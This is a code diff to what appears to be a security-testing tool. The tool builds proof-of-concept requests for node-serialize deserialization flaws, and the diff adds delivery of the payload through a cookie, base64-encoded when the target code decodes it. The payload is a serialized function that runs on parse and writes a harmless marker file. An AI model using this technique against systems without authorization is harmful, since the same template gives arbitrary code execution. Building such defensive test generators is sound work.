@@ -2,11 +2,11 @@
 // function, and an XML parser that reads the file an external entity names. Each is proposed only
 // where a request can really show the attack; elsewhere the story says why not.
 import type { AttackOutcome, AttackTarget } from './attackPlan';
-import { markerFilePlan, sentCriterion } from './markerAttack';
+import { markerFilePlan, sentCriterion, type PayloadCarrier } from './markerAttack';
 import { requestWith, type RequestField } from './skeletonRequests';
 
 const DESERIALIZATION_NOT_PROPOSED =
-  'the payload must be a serialized function for the library this code uses and reach it the way the handler reads it; Rugged writes one only for node-serialize read from a request field, so a reviewer checks that client data is parsed with JSON.parse and a schema instead';
+  'the payload must be a serialized function for the library this code uses and reach it the way the handler reads it; Rugged writes one only for node-serialize read from a request field or a cookie, so a reviewer checks that client data is parsed with JSON.parse and a schema instead';
 
 const XXE_NOT_PROPOSED =
   'whether the parser resolved the entity shows only when the handler sends the parsed text back, and this handler does not (or Rugged cannot see the field it reads); a reviewer checks that entity expansion (`noent`) and DTD loading are off';
@@ -14,12 +14,17 @@ const XXE_NOT_PROPOSED =
 /**
  * node-serialize evaluates a value marked `_$$ND_FUNC$$_`, and the trailing `()` calls it while the
  * payload is parsed: the function writes a marker file, so the test needs no answer from the app.
+ * The payload goes where the code reads it: a cookie (base64-encoded when the code decodes it, as a
+ * "remember me" profile usually is) or a request field.
  * Other deserializers only rebuild the function, which something must then call: no honest
  * request-level test exists for them without knowing the app.
  */
 export function deserialization(target: AttackTarget, where: string | undefined, field: RequestField | undefined): AttackOutcome {
-  if (!/node-serialize/.test(target.message) || !where || !field) return { notProposed: DESERIALIZATION_NOT_PROPOSED };
-  return markerFilePlan(target, where, field, {
+  if (!/node-serialize/.test(target.message) || !where) return { notProposed: DESERIALIZATION_NOT_PROPOSED };
+  const cookie = cookieRead(target.sinkText ?? '') ?? (field ? undefined : cookieRead(target.regionText ?? ''));
+  const sent = cookie ? cookieCarrier(target, cookie) : field;
+  if (!sent) return { notProposed: DESERIALIZATION_NOT_PROPOSED };
+  const plan = markerFilePlan(target, where, sent, {
     suffix: '-deserialize-marker',
     payload: (marker) => JSON.stringify({ rugged: `_$$ND_FUNC$$_function(){require('fs').writeFileSync('${marker}', '')}()` }),
     neverRuns: 'the function inside the serialized object is never run',
@@ -27,6 +32,24 @@ export function deserialization(target: AttackTarget, where: string | undefined,
     ranMessage: 'the serialized function ran while the payload was parsed',
     note: 'node-serialize calls the function while parsing, before the handler answers.',
   });
+  return cookie?.base64 ? { ...plan, preamble: [...plan.preamble, '// The code decodes the cookie from base64 before it unserializes it.', "const COOKIE_VALUE = Buffer.from(PAYLOAD).toString('base64');"] } : plan;
+}
+
+/** A cookie the code reads (`req.cookies.profile`, `req.signedCookies['p']`), and whether it decodes it from base64 first. */
+export function cookieRead(code: string): { name: string; base64: boolean } | undefined {
+  const read = /\breq(?:uest)?\.(?:signedC|c)ookies(?:\.([A-Za-z_$][\w$]*)|\[\s*['"]([\w-]+)['"]\s*\])/.exec(code);
+  if (!read) return undefined;
+  return { name: read[1] ?? read[2], base64: /base64|\batob\s*\(/.test(code) };
+}
+
+function cookieCarrier(target: AttackTarget, cookie: { name: string; base64: boolean }): PayloadCarrier {
+  const value = cookie.base64 ? 'COOKIE_VALUE' : 'PAYLOAD';
+  const header = `headers: { cookie: \`${cookie.name}=\${encodeURIComponent(${value})}\` }`;
+  return {
+    request: requestWith(target as Required<AttackTarget>, undefined, '', [header]),
+    placed: `${cookie.base64 ? 'base64-encoded ' : ''}in the \`${cookie.name}\` cookie`,
+    name: `the ${cookie.name} cookie`,
+  };
 }
 
 /**
